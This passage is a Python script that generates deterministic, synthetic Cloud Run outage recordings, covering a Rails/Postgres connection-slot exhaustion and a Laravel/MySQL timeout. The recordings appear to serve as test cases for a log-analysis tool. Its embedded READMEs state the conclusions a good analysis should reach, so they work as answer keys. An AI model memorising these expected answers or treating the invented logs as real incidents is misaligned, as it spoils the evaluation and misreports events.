#!/usr/bin/env python3
"""Generate six recorded outages for stacks and shapes the repository had no example of.

Written from the stacks' own log formats (Rails on Puma, Laravel behind nginx and php-fpm,
ASP.NET Core on Kestrel, Cloud Run jobs, Python SDK start-up notices, an internet scanner),
not from sitrep's signatures: the point is to test whether the analysis generalises.

  examples/ruby-rails-pg        Rails shop-web exhausts Cloud SQL Postgres connection slots after a
                                deploy doubles its Puma workers; shop-admin loses some connects too
  examples/php-laravel-fpm      Laravel portal: Cloud SQL MySQL unreachable, PDO connects time out,
                                php-fpm runs out of children, nginx answers 504
  examples/dotnet-kestrel-token ASP.NET Core ledger-api presents an expired service token to fx-rates
                                (401 -> unhandled HttpRequestException -> 500); independently
                                statements-api exhausts its Npgsql pool
  examples/run-job-failed       Cloud Run job nightly-export: every task attempt fails with 403 on the
                                export bucket, retries exhausted, execution failed; no requests
  examples/noise-only-spike     a warning-count alert fires on start-up notices of a scale-out;
                                every request succeeds
  examples/client-errors-only   a 4xx alert fires on a scanner's 404s; the service is healthy

Each folder holds alert.json (Monitoring notification, schema 1.2), logs.json (what
`gcloud logging read --format=json` prints: a LogEntry array, newest first), metrics.json
(timeSeries.list responses) and README.md (what happened, what a good analysis concludes).

Plain text on stdout/stderr carries no severity on Cloud Run (DEFAULT); only structured JSON
lines with a `severity` field, request logs and platform lines carry one. Multi-line text from
runtimes that write line by line (Rails, the .NET simple console formatter, Laravel's stack
trace) arrives as one entry per line.

Deterministic (fixed seeds and clock), stdlib only, imports nothing from sitrep.

    python scripts/make_stack_examples.py [--out DIR] [NAME ...]
"""

from __future__ import annotations

import itertools
import random
import sys
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from _exports import NS_PER_S, dump, ns_of, parse_ns, rfc3339, write_examples

NS_PER_MIN = 60 * NS_PER_S
BROWSER_UA = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)
DOTNET_UA = "ledger-api/4.2 (+System.Net.Http)"
SCANNER_UA = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
SCANNER_IP = "203.0.113.77"
PROXY_IP = "169.254.1.1"  # the address Cloud Run's front end presents to the container

Json = dict[str, Any]


def clock(ns: int, fmt: str) -> str:
    """Wall-clock text of `ns` in a runtime's own format; `%f` gives microseconds."""
    return datetime.fromtimestamp(ns / NS_PER_S, UTC).strftime(fmt)


@dataclass(frozen=True)
class Revision:
    """A Cloud Run service revision: what request logs and container lines belong to."""

    service: str
    name: str


@dataclass(frozen=True)
class Task:
    """One attempt of one task of a Cloud Run job execution."""

    job: str
    execution: str
    index: int
    attempt: int


Source = Revision | Task


@dataclass
class Export:
    """The LogEntry array and the Monitoring series of one project over one window."""

    project_id: str
    project_number: int
    region: str
    seed: int
    request_share: float = 0.05  # share of counted requests present as request log entries
    entries: list[tuple[int, Json]] = field(default_factory=list)
    requests: dict[tuple[str, str, int, int], int] = field(default_factory=lambda: defaultdict(int))
    job_series: dict[tuple[str, str, tuple[tuple[str, str], ...], int], int] = field(
        default_factory=lambda: defaultdict(int))
    kinds: Counter[tuple[str, str]] = field(default_factory=Counter)
    extra_series: list[Json] = field(default_factory=list)
    rng: random.Random = field(init=False)
    _instances: dict[Source, list[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.rng = random.Random(self.seed)

    # --- ids -------------------------------------------------------------------------------
    def hexid(self, nbytes: int) -> str:
        return self.rng.getrandbits(nbytes * 8).to_bytes(nbytes, "big").hex()

    def new_instance(self, source: Source) -> str:
        instance = "00" + self.hexid(75)
        self._instances.setdefault(source, []).append(instance)
        return instance

    def instance(self, source: Source) -> str:
        pool = self._instances.get(source)
        if not pool:
            return self.new_instance(source)
        return self.rng.choice(pool[-4:])

    def host(self, service: str) -> str:
        return f"{service}-{self.project_number}.{self.region}.run.app"

    def client_ip(self) -> str:
        r = self.rng
        return f"{r.randrange(24, 220)}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def at(self, minute_ns: int) -> int:
        return minute_ns + self.rng.randrange(60 * NS_PER_S)

    # --- entries ---------------------------------------------------------------------------
    def _resource(self, source: Source) -> Json:
        if isinstance(source, Revision):
            return {"type": "cloud_run_revision", "labels": {
                "configuration_name": source.service, "location": self.region, "project_id": self.project_id,
                "revision_name": source.name, "service_name": source.service}}
        return {"type": "cloud_run_job", "labels": {
            "job_name": source.job, "location": self.region, "project_id": self.project_id}}

    def _labels(self, source: Source, instance: str | None) -> Json:
        labels = {"instanceId": instance or self.instance(source)}
        if isinstance(source, Task):
            labels.update({"run.googleapis.com/execution_name": source.execution,
                           "run.googleapis.com/task_attempt": str(source.attempt),
                           "run.googleapis.com/task_index": str(source.index)})
        return labels

    def entry(self, ns: int, source: Source, log: str, severity: str, kind: str, *,
              instance: str | None = None, digits: int = 9, labels: Json | None = None) -> Json:
        ns -= ns % 10 ** (9 - digits)  # what the printed timestamp keeps, so the order is the printed order
        encoded = log.replace("/", "%2F")
        full = encoded if "." in log else "run.googleapis.com%2F" + encoded
        entry: Json = {
            "insertId": self.hexid(8)[:16],
            "labels": labels if labels is not None else self._labels(source, instance),
            "logName": f"projects/{self.project_id}/logs/{full}",
            "receiveTimestamp": rfc3339(ns + self.rng.randrange(30_000_000, 700_000_000)),
            "resource": self._resource(source),
            "severity": severity,
            "timestamp": rfc3339(ns, digits),
        }
        self.entries.append((ns, entry))
        name = source.service if isinstance(source, Revision) else source.job
        self.kinds[(name, kind)] += 1
        return entry

    def text(self, ns: int, source: Source, text: str, kind: str, *, log: str = "stdout",
             severity: str = "DEFAULT", instance: str | None = None) -> Json:
        entry = self.entry(ns, source, log, severity, kind, instance=instance)
        entry["textPayload"] = text
        return entry

    def lines(self, ns: int, source: Source, lines: list[str], kind: str, *, log: str = "stdout",
              instance: str | None = None) -> None:
        """A multi-line write that the runtime emits line by line: one entry per line, same instance."""
        inst = instance or self.instance(source)
        for i, line in enumerate(lines):
            self.text(ns + i * 7_000, source, line, kind, log=log, instance=inst)

    def json(self, ns: int, source: Source, payload: Json, kind: str, *, severity: str = "DEFAULT",
             log: str = "stdout", instance: str | None = None, labels: Json | None = None) -> Json:
        entry = self.entry(ns, source, log, severity, kind, instance=instance)
        if labels:
            entry["labels"].update(labels)
        entry["jsonPayload"] = payload
        return entry

    def system(self, ns: int, source: Source, text: str, kind: str, *, severity: str,
               instance: str | None = None) -> Json:
        return self.text(ns, source, text, kind, log="varlog/system", severity=severity, instance=instance)

    def request(self, ns: int, rev: Revision, method: str, path: str, status: int, latency_s: float, *,
                ua: str = BROWSER_UA, remote_ip: str | None = None, text: str | None = None,
                kind: str | None = None, instance: str | None = None) -> Json:
        severity = "ERROR" if status >= 500 else "WARNING" if status >= 400 else "INFO"
        entry = self.entry(ns, rev, "requests", severity, kind or f"request {status // 100}xx",
                           instance=instance, digits=6)
        entry["httpRequest"] = {
            "latency": f"{latency_s:.9f}s",
            "protocol": "HTTP/1.1",
            "remoteIp": remote_ip or self.client_ip(),
            "requestMethod": method,
            "requestSize": str(self.rng.randrange(280, 2200)),
            "requestUrl": f"https://{self.host(rev.service)}{path}",
            "responseSize": str(self.rng.randrange(400, 38000) if status < 400 else self.rng.randrange(120, 900)),
            "serverIp": "216.239.32.53",
            "status": status,
            "userAgent": ua,
        }
        entry["spanId"] = self.hexid(8)
        entry["trace"] = f"projects/{self.project_id}/traces/{self.hexid(16)}"
        entry["traceSampled"] = self.rng.random() < 0.1
        if text:
            entry["textPayload"] = text
        return entry

    def audit(self, ns: int, job: str, execution: str, log: str, severity: str, kind: str, proto: Json) -> Json:
        source = Task(job, execution, 0, 0)
        entry = self.entry(ns, source, log, severity, kind, labels={})
        entry["protoPayload"] = proto
        return entry

    # --- counting --------------------------------------------------------------------------
    def traffic(self, minute_ns: int, rev: Revision, mix: dict[int, int],
                route: Callable[[int], tuple[str, str, float]], *, ua: str = BROWSER_UA,
                on_logged: Callable[[int, int, str, str, float], None] | None = None,
                text: Callable[[int], str | None] = lambda status: None) -> None:
        """Count a minute of requests per status; log a share of them (and call on_logged for each)."""
        for status, n in mix.items():
            if n <= 0:
                continue
            self.requests[(rev.service, rev.name, status, minute_ns)] += n
            logged = min(n, int(n * self.request_share + self.rng.random()))
            for _ in range(logged):
                ns = self.at(minute_ns)
                method, path, latency = route(status)
                self.request(ns, rev, method, path, status, latency, ua=ua, text=text(status))
                if on_logged:
                    on_logged(ns, status, method, path, latency)

    def job_count(self, metric: str, job: str, labels: dict[str, str], minute_ns: int, n: int = 1) -> None:
        self.job_series[(metric, job, tuple(sorted(labels.items())), minute_ns)] += n

    # --- output ----------------------------------------------------------------------------
    def logs(self) -> list[Json]:
        ordered = sorted(self.entries, key=lambda pair: (pair[0], pair[1]["insertId"]), reverse=True)
        return [entry for _, entry in ordered]

    def _point(self, start: int, n: int) -> Json:
        return {"interval": {"endTime": rfc3339(start + NS_PER_MIN, 0), "startTime": rfc3339(start, 0)},
                "value": {"int64Value": str(n)}}

    def metrics(self) -> Json | list[Json]:
        """One timeSeries.list response per metric type (a list when there are several)."""
        by_series: dict[tuple[str, str, int], list[tuple[int, int]]] = defaultdict(list)
        for (service, revision, status, minute_ns), n in self.requests.items():
            by_series[(service, revision, status)].append((minute_ns, n))
        responses: list[Json] = []
        if by_series:
            series = []
            for (service, revision, status), points in sorted(by_series.items()):
                series.append({
                    "metric": {"labels": {"response_code": str(status), "response_code_class": f"{status // 100}xx"},
                               "type": "run.googleapis.com/request_count"},
                    "metricKind": "DELTA",
                    "points": [self._point(s, n) for s, n in sorted(points, reverse=True)],
                    "resource": self._resource(Revision(service, revision)),
                    "valueType": "INT64",
                })
            responses.append({"timeSeries": series, "unit": "1"})
        by_job: dict[tuple[str, str, tuple[tuple[str, str], ...]], list[tuple[int, int]]] = defaultdict(list)
        for (metric, job, labels, minute_ns), n in self.job_series.items():
            by_job[(metric, job, labels)].append((minute_ns, n))
        for metric in sorted({key[0] for key in by_job}):
            responses.append({"timeSeries": [
                {"metric": {"labels": dict(labels), "type": metric}, "metricKind": "DELTA",
                 "points": [self._point(s, n) for s, n in sorted(points, reverse=True)],
                 "resource": self._resource(Task(job, "", 0, 0)), "valueType": "INT64"}
                for (m, job, labels), points in sorted(by_job.items()) if m == metric], "unit": "1"})
        responses.extend(self.extra_series)
        return responses[0] if len(responses) == 1 else responses


# --- Monitoring notifications --------------------------------------------------------------------

def notification(ex: Export, *, incident_id: str, policy: str, policy_id: str, condition: Json,
                 condition_name: str, started: datetime, severity: str, labels: dict[str, str],
                 resource: Json, resource_display: str, resource_type_display: str, summary: str,
                 metric: Json, observed: str | None, threshold: str | None, doc: str) -> Json:
    incident: Json = {
        "condition": condition,
        "condition_name": condition_name,
        "documentation": {"content": doc, "mime_type": "text/markdown", "subject": f"[ALERT - {severity}] {policy}"},
        "ended_at": None,
        "incident_id": incident_id,
        "metadata": {"system_labels": {}, "user_labels": {}},
        "metric": metric,
        "policy_name": policy,
        "policy_user_labels": labels,
        "resource": resource,
        "resource_display_name": resource_display,
        "resource_id": "",
        "resource_name": (f"{ex.project_id} {resource_type_display} labels "
                          + "{" + ", ".join(f"{k}={v}" for k, v in resource["labels"].items()) + "}"),
        "resource_type_display_name": resource_type_display,
        "scoping_project_id": ex.project_id,
        "scoping_project_number": ex.project_number,
        "severity": severity,
        "started_at": int(started.timestamp()),
        "state": "open",
        "summary": summary,
        "url": f"https://console.cloud.google.com/monitoring/alerting/incidents/{incident_id}?project={ex.project_id}",
    }
    if observed is not None:
        incident["observed_value"] = observed
    if threshold is not None:
        incident["threshold_value"] = threshold
    condition_id = policy_id[:-4] + "7731"
    incident["condition"]["name"] = f"projects/{ex.project_id}/alertPolicies/{policy_id}/conditions/{condition_id}"
    return {"incident": incident, "version": "1.2"}


def threshold_alert(ex: Export, *, service: str, filter_: str, denominator: str | None, threshold: float,
                    observed: str, condition_name: str, **kw: Any) -> Json:
    """A metric-threshold notification on a Cloud Run service (a ratio when `denominator` is given)."""
    agg = [{"alignmentPeriod": "60s", "crossSeriesReducer": "REDUCE_SUM",
            "groupByFields": ["resource.label.service_name"], "perSeriesAligner": "ALIGN_DELTA"}]
    cond: Json = {"aggregations": agg, "comparison": "COMPARISON_GT", "duration": "120s", "filter": filter_,
                  "thresholdValue": threshold, "trigger": {"count": 1}}
    if denominator:
        cond.update({"denominatorAggregations": agg, "denominatorFilter": denominator})
    resource = {"labels": {"project_id": ex.project_id, "service_name": service, "location": ex.region},
                "type": "cloud_run_revision"}
    metric_type = filter_.split('metric.type = "', 1)[1].split('"', 1)[0]
    display = "Request Count" if metric_type.endswith("request_count") else metric_type.rsplit("/", 1)[-1]
    resource_name = (f"{ex.project_id} Cloud Run Revision labels {{project_id={ex.project_id}, "
                     f"service_name={service}, location={ex.region}}}")
    return notification(
        ex, condition={"conditionThreshold": cond, "displayName": condition_name}, condition_name=condition_name,
        resource=resource, resource_display=service, resource_type_display="Cloud Run Revision",
        summary=f"{display} for {resource_name} is above the threshold of {threshold:g} with a value of {observed}.",
        metric={"displayName": display, "labels": {}, "type": metric_type},
        observed=observed, threshold=f"{threshold:g}", **kw)


def ratio_5xx_alert(ex: Export, service: str, **kw: Any) -> Json:
    base = (f'resource.type = "cloud_run_revision" AND resource.labels.service_name = "{service}" '
            'AND metric.type = "run.googleapis.com/request_count"')
    return threshold_alert(ex, service=service, filter_=base + ' AND metric.labels.response_code_class = "5xx"',
                           denominator=base, threshold=0.05, condition_name=f"{service} 5xx ratio above 5%", **kw)


# =================================================================================================
# 1. Ruby: Rails on Puma, Cloud SQL Postgres connection slots
# =================================================================================================

RAILS_FRAMES = [
    "app/models/current.rb:14:in `cart'",
    "app/controllers/application_controller.rb:22:in `load_cart'",
]


def ruby_rails_pg() -> tuple[Export, Json, str]:
    start = datetime(2025, 11, 18, 14, 0, tzinfo=UTC)
    ex = Export("acme-shop-prd", 731940026615, "europe-west1", seed=20251118, request_share=0.04)
    r = ex.rng
    t0, minutes, deploy = ns_of(start), 40, 6
    web_prev, web_new = Revision("shop-web", "shop-web-00142-kiv"), Revision("shop-web", "shop-web-00143-dow")
    admin = Revision("shop-admin", "shop-admin-00061-zab")
    search = Revision("shop-search", "shop-search-00210-mop")
    socket = "/cloudsql/acme-shop-prd:europe-west1:shop-pg/.s.PGSQL.5432"

    def rails(ns: int, level: str, rid: str, message: str) -> str:
        letter = level[0]
        return f"{letter}, [{clock(ns, '%Y-%m-%dT%H:%M:%S.%f')} #1] {level:>5} -- : [{rid}] {message}"

    def puma_boot(ns: int, rev: Revision, workers: int) -> None:
        inst = ex.new_instance(rev)
        boot = ["[1] Puma starting in cluster mode...",
                '[1] * Puma version: 6.4.3 (ruby 3.3.6-p108) ("The Eagle of Durango")',
                "[1] *  Min threads: 5", "[1] *  Max threads: 5", "[1] *  Environment: production",
                "[1] *   Master PID: 1", f"[1] *      Workers: {workers}",
                "[1] *     Restarts: (\u2714) hot (\u2716) phased", "[1] * Preloading application"]
        ex.lines(ns, rev, boot, "puma boot", instance=inst)
        ex.text(ns + 1_400_000_000, rev,
                f"W, [{clock(ns + 1_400_000_000, '%Y-%m-%dT%H:%M:%S.%f')} #1]  WARN -- : DEPRECATION WARNING: "
                "`to_time` will always preserve the receiver timezone rather than system local time in Rails 8.0."
                "To opt in to the new behavior, set `config.active_support.to_time_preserves_timezone = :zone`. "
                "(called from <top (required)> at /rails/config/environment.rb:5)", "rails deprecation", instance=inst)
        ex.lines(ns + 1_900_000_000, rev, ["[1] * Listening on http://0.0.0.0:8080", "[1] Use Ctrl-C to stop"],
                 "puma boot", instance=inst)
        for w in range(workers):
            ex.text(ns + 2_000_000_000 + w * 90_000_000, rev,
                    f"[1] - Worker {w} (PID: {12 + w * 7}) booted in 0.{r.randrange(1, 9)}s, phase: 0",
                    "puma boot", instance=inst)
        ex.system(ns + 2_400_000_000, rev, 'Default STARTUP TCP probe succeeded after 1 attempt for container '
                  f'"{rev.service}-1" on port 8080.', "platform info", severity="INFO", instance=inst)

    for k in range(3):
        puma_boot(t0 - (40 - 9 * k) * NS_PER_S, web_prev, 2)
    puma_boot(t0 - 300 * NS_PER_S, admin, 2)
    ex.new_instance(search)

    pages = {
        "shop-web": [("GET", "/"), ("GET", "/products/{n}"), ("GET", "/collections/winter-sale"),
                     ("POST", "/cart/items"), ("GET", "/cart"), ("POST", "/checkout")],
        "shop-admin": [("GET", "/admin/orders"), ("GET", "/admin/orders/{n}"), ("PATCH", "/admin/products/{n}")],
    }
    controllers = {
        "/": "HomeController#index", "/products/{n}": "ProductsController#show",
        "/collections/winter-sale": "CollectionsController#show", "/cart/items": "CartItemsController#create",
        "/cart": "CartsController#show", "/checkout": "CheckoutsController#create",
        "/admin/orders": "Admin::OrdersController#index", "/admin/orders/{n}": "Admin::OrdersController#show",
        "/admin/products/{n}": "Admin::ProductsController#update",
    }

    def rails_route(service: str) -> Callable[[int], tuple[str, str, float]]:
        def route(status: int) -> tuple[str, str, float]:
            method, pattern = r.choice(pages[service])
            path = pattern.replace("{n}", str(r.randrange(1000, 99999)))
            latency = r.uniform(0.02, 0.25) if status < 500 else r.uniform(0.01, 0.09)
            return method, path, latency
        return route

    def rails_lines(rev: Revision) -> Callable[[int, int, str, str, float], None]:
        def emit(ns: int, status: int, method: str, path: str, latency: float) -> None:
            rid = f"{ex.hexid(4)}-{ex.hexid(2)}-{ex.hexid(2)}-{ex.hexid(2)}-{ex.hexid(6)}"
            pattern = next(p for p in controllers if path == p or (p.endswith("{n}") and path.startswith(p[:-3])))
            inst = ex.instance(rev)
            start_ns = ns - int(latency * NS_PER_S)
            ex.text(start_ns, rev, rails(start_ns, "INFO", rid, f'Started {method} "{path}" for {ex.client_ip()} at '
                                         f"{clock(start_ns, '%Y-%m-%d %H:%M:%S')} +0000"), "rails request",
                    instance=inst)
            ex.text(start_ns + 300_000, rev, rails(start_ns, "INFO", rid,
                                                   f"Processing by {controllers[pattern]} as HTML"),
                    "rails request", instance=inst)
            ms = int(latency * 1000)
            if status < 500:
                text = {200: "200 OK", 201: "201 Created", 302: "302 Found", 404: "404 Not Found",
                        422: "422 Unprocessable Content"}[status]
                ex.text(ns, rev, rails(ns, "INFO", rid, f"Completed {text} in {ms}ms (Views: {ms // 3}.1ms | "
                                       f"ActiveRecord: {ms // 4}.7ms (7 queries, 2 cached) | GC: 0.4ms)"),
                        "rails request", instance=inst)
                return
            ex.text(ns, rev, rails(ns, "INFO", rid, f"Completed 500 Internal Server Error in {ms}ms "
                                   "(ActiveRecord: 0.0ms (0 queries, 0 cached) | GC: 0.0ms)"), "rails 500",
                    instance=inst)
            why = (r.choice(["remaining connection slots are reserved for non-replication superuser connections",
                             "sorry, too many clients already"])
                   if rev.service == "shop-web" else "sorry, too many clients already")
            ex.text(ns + 200_000, rev, rails(ns, "ERROR", rid, "  "), "rails error", instance=inst)
            ex.text(ns + 300_000, rev, rails(ns, "ERROR", rid, f'ActiveRecord::ConnectionNotEstablished (connection '
                                             f'to server on socket "{socket}" failed: FATAL:  {why}'),
                    "rails error", instance=inst)
            ex.text(ns + 310_000, rev, "):", "rails error", instance=inst)
            ex.text(ns + 400_000, rev, rails(ns, "ERROR", rid, "  "), "rails error", instance=inst)
            for j, frame in enumerate(RAILS_FRAMES):
                ex.text(ns + 500_000 + j * 10_000, rev, rails(ns, "ERROR", rid, frame), "rails error", instance=inst)
        return emit

    for m in range(minutes):
        mns = t0 + m * NS_PER_MIN
        if m < deploy:
            ex.traffic(mns, web_prev, {200: r.randrange(70, 82), 302: r.randrange(4, 8), 404: r.randrange(0, 3)},
                       rails_route("shop-web"), on_logged=rails_lines(web_prev))
        elif m == deploy:
            ex.traffic(mns, web_new, {200: r.randrange(50, 60), 302: r.randrange(3, 6), 500: r.randrange(8, 14)},
                       rails_route("shop-web"), on_logged=rails_lines(web_new))
        else:
            ok = r.randrange(22, 30)
            ex.traffic(mns, web_new, {200: ok, 302: r.randrange(1, 3), 500: r.randrange(48, 58)},
                       rails_route("shop-web"), on_logged=rails_lines(web_new))
        fail_admin = r.randrange(1, 3) if m > deploy else 0
        ex.traffic(mns, admin, {200: r.randrange(14, 19), 500: fail_admin}, rails_route("shop-admin"),
                   on_logged=rails_lines(admin))
        ex.traffic(mns, search, {200: r.randrange(40, 52)},
                   lambda status: ("GET", f"/v1/search?q={r.choice(['boots', 'scarf', 'parka', 'gloves'])}",
                                   r.uniform(0.01, 0.06)), ua="shop-web/2025.11 Faraday v2.12.0")
        if m % 3 == 0:
            ns = ex.at(mns)
            ex.text(ns, search, f"I, [{clock(ns, '%Y-%m-%dT%H:%M:%S.%f')} #1]  INFO -- : [elasticsearch] GET "
                    f"https://search.internal:9200/products/_search [status:200, request:0.0{r.randrange(10, 60)}s, "
                    "query:0.011s]", "search info")

    # the deploy: shop-web-00143-dow boots with WEB_CONCURRENCY=4 and scales out
    for k in range(6):
        puma_boot(t0 + deploy * NS_PER_MIN + (3 + 11 * k) * NS_PER_S, web_new, 4)
    for k in range(3):
        puma_boot(t0 + (deploy + 4 + 7 * k) * NS_PER_MIN + 20 * NS_PER_S, web_new, 4)

    alert_doc = ratio_5xx_alert(
        ex, "shop-web", incident_id="0.nq3rt8vkz6ha", policy="shop-web 5xx ratio (prod)",
        policy_id="4410938271654408812", started=start + timedelta(minutes=deploy + 3), severity="Critical",
        labels={"env": "prod", "team": "storefront"}, observed="0.681",
        doc="More than 5% of `shop-web` requests fail with 5xx.")
    readme = f"""# ruby-rails-pg: Rails shop-web runs Cloud SQL Postgres out of connection slots after a deploy

Recorded-shape export for project `acme-shop-prd` (`europe-west1`, env `prod`), 2025-11-18
14:00–14:40 UTC. Services: `shop-web` and `shop-admin` (Rails 7.2 on Puma 6, Ruby 3.3, both on the
Cloud SQL Postgres 15 instance `shop-pg` through the Cloud SQL Unix socket), `shop-search` (Rails API
on Elasticsearch, no Postgres).

## What happened

- **14:06** `{web_new.name}` replaces `{web_prev.name}`. The only change is `WEB_CONCURRENCY=4`
  (Puma cluster mode, `Workers: 4` instead of `Workers: 2`, 5 threads each): every instance now opens up
  to 20 connections, and the revision scales to 9 instances. Cloud SQL's `max_connections` (200, 3
  reserved) is reached within a minute.
- From then on, every request whose Puma worker has no pooled connection fails to connect:
  Rails logs `Completed 500 Internal Server Error`, then
  `ActiveRecord::ConnectionNotEstablished (connection to server on socket "{socket}" failed:
  FATAL:  remaining connection slots are reserved for non-replication superuser connections` (or
  `FATAL:  sorry, too many clients already`); the libpq message ends in a newline, so the closing `):`
  arrives as its own log entry. About 65% of shop-web requests answer 500. The alert opens at 14:09.
- `shop-admin` shares the instance: a few of its new connections fail the same way (about 8% of its
  requests). `shop-search` does not use Postgres and is healthy.
- Rails writes plain text to stdout (`config.logger = ActiveSupport::TaggedLogging.new(Logger.new($stdout))`),
  so none of its lines carries a severity: the level is the `E, [...] ERROR -- :` prefix. Noise: the Rails 8
  `to_time` deprecation warning at each boot, Puma's boot banner.

## What a good analysis concludes

- health: shop-web FAILING, shop-admin DEGRADED, shop-search HEALTHY.
- root: `database` in `shop-web`: Postgres connection slots exhausted on `shop-pg`, on the newest
  revision `{web_new.name}` (previous `{web_prev.name}` served fine). shop-admin's failures are
  the same exhausted instance, not a second cause: one root. The 500s are symptoms; the deprecation is noise.
- P0 actions: roll back with
  `gcloud run services update-traffic shop-web --to-revisions={web_prev.name}=100` and name the
  connection limit (slots on `shop-pg`, or workers × threads × instances against `max_connections`).
"""
    return ex, alert_doc, readme


# =================================================================================================
# 2. PHP: Laravel behind nginx + php-fpm, Cloud SQL MySQL unreachable
# =================================================================================================

LARAVEL_TRACE = [
    "#0 /var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php(979): "
    "Illuminate\\\\Database\\\\Connection->runQueryCallback()",
    "#1 /var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php(958): "
    "Illuminate\\\\Database\\\\Connection->tryAgainIfCausedByLostConnection()",
    "#2 /var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php(781): "
    "Illuminate\\\\Database\\\\Connection->handleQueryException()",
]


def php_laravel_fpm() -> tuple[Export, Json, str]:
    start = datetime(2025, 11, 20, 10, 0, tzinfo=UTC)
    ex = Export("acme-portal-prd", 208815530417, "europe-west3", seed=20251120, request_share=0.05)
    r = ex.rng
    t0, minutes, outage = ns_of(start), 40, 11
    portal, hooks = Revision("portal", "portal-00318-qex"), Revision("webhooks", "webhooks-00044-lod")
    db = "10.24.0.5"

    def fpm(ns: int) -> str:
        return clock(ns, "[%d-%b-%Y %H:%M:%S]")

    def boot(ns: int, rev: Revision) -> None:
        inst = ex.new_instance(rev)
        sv = clock(ns, "%Y-%m-%d %H:%M:%S,") + f"{r.randrange(1000):03d}"
        ex.text(ns, rev, f"{sv} INFO supervisord started with pid 1", "supervisord", log="stderr", instance=inst)
        ex.text(ns + 40_000_000, rev, f"{sv} INFO spawned: 'php-fpm' with pid 7", "supervisord", log="stderr",
                instance=inst)
        ex.text(ns + 41_000_000, rev, f"{sv} INFO spawned: 'nginx' with pid 8", "supervisord", log="stderr",
                instance=inst)
        ex.text(ns + 90_000_000, rev, f"{fpm(ns)} NOTICE: fpm is running, pid 7", "php-fpm notice", log="stderr",
                instance=inst)
        ex.text(ns + 91_000_000, rev, f"{fpm(ns)} NOTICE: ready to handle connections", "php-fpm notice",
                log="stderr", instance=inst)
        ex.text(ns + 1_100_000_000, rev, f"{sv} INFO success: nginx entered RUNNING state, process has stayed up "
                "for > than 1 seconds (startsecs)", "supervisord", log="stderr", instance=inst)
        ex.system(ns + 1_300_000_000, rev, 'Default STARTUP TCP probe succeeded after 1 attempt for container '
                  f'"{rev.service}-1" on port 8080.', "platform info", severity="INFO", instance=inst)

    for k in range(4):
        boot(t0 - (200 - 37 * k) * NS_PER_S, portal)
    boot(t0 - 500 * NS_PER_S, hooks)

    portal_paths = ["/dashboard", "/invoices", "/invoices/{n}", "/account/settings", "/api/notifications",
                    "/login", "/build/assets/app-4f1c2a9e.js"]

    def portal_route(status: int) -> tuple[str, str, float]:
        path = r.choice(portal_paths).replace("{n}", str(r.randrange(10000, 99999)))
        if status == 504:
            return "GET", path, r.uniform(60.0, 60.4)
        if status == 500:
            return "GET", path, r.uniform(5.0, 5.6)
        return ("POST" if path == "/login" else "GET"), path, r.uniform(0.03, 0.4)

    def access_line(rev: Revision) -> Callable[[int, int, str, str, float], None]:
        def emit(ns: int, status: int, method: str, path: str, latency: float) -> None:
            size = r.randrange(300, 40000) if status < 400 else {500: 6603, 504: 562, 404: 4310}.get(status, 200)
            ex.text(ns, rev, f'{PROXY_IP} - - [{clock(ns, "%d/%b/%Y:%H:%M:%S +0000")}] "{method} {path} HTTP/1.1" '
                    f'{status} {size} "-" "{BROWSER_UA}"', "nginx access")
            if status == 504:
                ex.text(ns + 100_000, rev, f"{clock(ns, '%Y/%m/%d %H:%M:%S')} [error] 23#23: "
                        f"*{r.randrange(900, 99999)} upstream timed out (110: Connection timed out) while reading "
                        "response header from upstream, "
                        f'client: {PROXY_IP}, server: _, request: "{method} {path} HTTP/1.1", upstream: '
                        f'"fastcgi://127.0.0.1:9000", host: "{ex.host(rev.service)}"', "nginx upstream timeout",
                        log="stderr")
        return emit

    for m in range(minutes):
        mns = t0 + m * NS_PER_MIN
        if m < outage:
            mix = {200: r.randrange(95, 110), 302: r.randrange(5, 10), 404: r.randrange(0, 3)}
        else:
            mix = {200: r.randrange(14, 22), 302: r.randrange(1, 3), 500: r.randrange(30, 38), 504: r.randrange(45, 55)}
        ex.traffic(mns, portal, mix, portal_route, on_logged=access_line(portal))
        ex.traffic(mns, hooks, {200: r.randrange(20, 28), 202: r.randrange(8, 14)},
                   lambda status: ("POST", r.choice(["/hooks/stripe", "/hooks/github", "/hooks/postmark"]),
                                   r.uniform(0.01, 0.05)), ua="Stripe/1.0 (+https://stripe.com/docs/webhooks)")
        if m % 4 == 1:
            ns = ex.at(mns)
            ex.text(ns, hooks, f"[{clock(ns, '%Y-%m-%d %H:%M:%S')}] production.INFO: Queued webhook "
                    f"evt_{ex.hexid(12)} on redis queue webhooks", "laravel info", log="stderr")
        if m % 6 == 0:
            ns = ex.at(mns)
            ex.text(ns, portal, f"[{clock(ns, '%Y-%m-%d %H:%M:%S')}] production.WARNING: Creation of dynamic property "
                    "App\\Support\\InvoiceTotals::$legacyRounding is deprecated in "
                    "/var/www/html/app/Support/InvoiceTotals.php on line 41", "php deprecation", log="stderr")
        if m < outage:
            continue
        # the database is unreachable: PDO connects time out after 5 s (PDO::ATTR_TIMEOUT), Laravel logs them
        for _ in range(3):
            ns = ex.at(mns)
            table, where = r.choice([("sessions", f"`id` = {ex.hexid(20)}"),
                                     ("users", f"`id` = {r.randrange(1, 90000)}"),
                                     ("invoices", f"`account_id` = {r.randrange(1, 9000)}")])
            sql = f"select * from `{table}` where {where} limit 1"
            stamp = f"[{clock(ns, '%Y-%m-%d %H:%M:%S')}]"
            ex.lines(ns, portal, [
                f"{stamp} production.ERROR: SQLSTATE[HY000] [2002] Connection timed out "
                f"(Connection: mysql, SQL: {sql}) "
                '{"exception":"[object] (Illuminate\\\\Database\\\\QueryException(code: 2002): SQLSTATE[HY000] [2002] '
                f"Connection timed out (Connection: mysql, SQL: {sql}) at "
                "/var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php:825)",
                "[stacktrace]", *LARAVEL_TRACE,
                "[previous exception] [object] (PDOException(code: 2002): SQLSTATE[HY000] [2002] Connection timed out "
